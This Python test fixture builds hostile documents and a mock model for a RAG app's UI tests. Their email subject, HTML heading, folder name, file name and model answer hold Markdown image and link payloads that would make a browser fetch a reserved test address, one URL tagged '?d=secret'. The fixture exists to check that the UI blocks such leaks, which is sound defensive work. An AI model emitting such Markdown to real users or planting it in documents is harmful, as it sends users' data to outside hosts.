"""Documents whose names, folders, section titles and subjects are Markdown that would make a
browser fetch an outside address (issue 10, item 2), and a model that answers with such
Markdown too. Shared by the AppTest and the browser tests of the UI.

203.0.113.0/24 is TEST-NET-3 (RFC 5737): never routed, so a fetch that slipped through could
not reach anyone; the browser test records requests instead of relying on that.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path

from ollama_server import Message

HOST = "203.0.113.5"
SUBJECT = f"![](//{HOST}/e.png)"  # an email sender's tracking beacon
HEADING = f"![t](http://{HOST}/x?d=secret)"  # an HTML document's <h1>
FOLDER = f"![a](https:/{HOST}/leak)"  # "https:/" has a slash too few; browsers fetch it anyway
# A file name holds no "/"; on a page served over http, "https:host" is read as https://host/.
FILE_NAME = f"![i](https:{HOST}).md"
MODEL_ANSWER = (
    f"![m](http://{HOST}/model.png) See <http://{HOST}/auto>, www.example.org, mallory@example.org "
    f"and [this](http://{HOST}/link). The price is $17 or $x^2$. ![r][1]\n\n[1]: http://{HOST}/ref.png\n\n"
)


@dataclass(frozen=True)
class Case:
    """One hostile document: a question that finds it, the word its passage holds, and the
    Markdown payload its citation would show."""

    name: str
    question: str
    word: str
    payload: str
    path: Path


def make_hostile_docs(root: Path) -> list[Case]:
    """Write the hostile corpus under `root`; returns one Case per document."""
    root.mkdir(parents=True, exist_ok=True)
    email = root / "beacon.eml"
    email.write_text(
        "From: Mallory <mallory@example.org>\n"
        "To: staff@example.org\n"
        f"Subject: {SUBJECT}\n"
        "Date: Mon, 1 May 2023 10:00:00 +0000\n"
        "Message-ID: <beacon-1@example.org>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "\n"
        "The blue widget now costs seventeen euros, says the procurement survey.\n",
        encoding="utf-8",
    )
    page = root / "greenhouse.html"
    page.write_text(
        "<!DOCTYPE html><html><head><title>Greenhouse</title></head><body>"
        f"<h1>{HEADING}</h1><p>The orchid greenhouse is heated to twenty-four degrees all winter.</p>"
        "</body></html>\n",
        encoding="utf-8",
    )
    folder = root.joinpath(*FOLDER.split("/"))  # nested folders; the path reads as the payload
    folder.mkdir(parents=True)
    note = folder / "canteen.md"
    note.write_text("# Canteen\n\nThe canteen serves lasagne every Thursday at noon.\n", encoding="utf-8")
    named = root / FILE_NAME
    named.write_text("# Bicycles\n\nThe bicycle cage in the basement opens with code 4711.\n", encoding="utf-8")
    return [
        Case("email subject", "How much does the blue widget cost?", "widget", SUBJECT, email),
        Case("html heading", "How warm is the orchid greenhouse?", "orchid", HEADING, page),
        Case("folder name", "What does the canteen serve on Thursday?", "lasagne", FOLDER, note),
        Case("file name", "What is the code of the bicycle cage?", "bicycle", FILE_NAME, named),
    ]


def follow_up(messages: list[Message]) -> str | None:
    """The question of a condense request (ragkb.conversation: a follow-up made standalone
    before retrieval), or None for any other request."""
    found = re.search(r"\nLast question: (.*)\nStandalone question:\s*$", messages[-1]["content"], re.DOTALL)
    return found.group(1).strip() if found else None


def hostile_model(messages: list[Message]) -> str:
    """An Ollama responder: Markdown that would fetch, link and typeset, citing the passage
    that holds the question's key word. A follow-up question it is asked to make standalone
    comes back as it was (a model that rewrote it into Markdown would only change retrieval)."""
    asked = follow_up(messages)
    if asked is not None:
        return asked
    prompt = messages[-1]["content"]
    question = prompt.rsplit("Question:", 1)[-1].lower()
    n = "1"
    for line in prompt.splitlines():
        found = re.match(r"\[(\d+)\] (.*)", line)
        if found and any(word in found.group(2).lower() and word in question for word in _WORDS):
            n = found.group(1)
            break
    return f"{MODEL_ANSWER}It says so in the document [{n}]."


_WORDS = ("widget", "orchid", "lasagne", "canteen", "bicycle")
